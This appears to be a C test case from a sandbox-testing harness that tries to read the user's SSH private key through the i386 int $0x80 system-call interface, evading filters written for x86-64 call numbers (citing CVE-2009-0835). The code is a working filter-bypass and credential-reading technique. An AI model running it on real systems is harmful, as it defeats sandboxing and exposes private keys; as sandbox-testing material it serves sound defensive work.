/*
 * family: injection
 * tries: read the user's SSH key through the i386 system-call ABI (int $0x80: open, read, write) from a 64-bit process, where a filter written for x86-64 numbers misreads every call
 * source: https://nvd.nist.gov/vuln/detail/CVE-2009-0835
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * i386 calls take 32-bit pointers: the path and buffer are static, in a
 * non-PIE static executable (below 4 GiB). On other architectures it
 * prints why and exits 1.
 */
#include <stdio.h>
#include <string.h>

#if defined(__x86_64__)
static long
int80(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}
#endif

int
main(int argc, char **argv)
{
#if defined(__x86_64__)
	static char path[4096], buf[65536];
	long fd, n;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", argv[2]);
	fflush(stdout);
	/* i386 numbers: read 3, write 4, open 5, close 6. */
	if ((fd = int80(5, (long)path, 0, 0)) < 0) {
		printf("i386 open: %s\n", strerror((int)-fd));
		return 1;
	}
	while ((n = int80(3, fd, (long)buf, sizeof(buf))) > 0)
		int80(4, 1, (long)buf, n);
	int80(6, fd, 0, 0);
	return 0;
#else
	printf("not an x86-64 build: no i386 ABI to try\n");
	return 1;
#endif
}
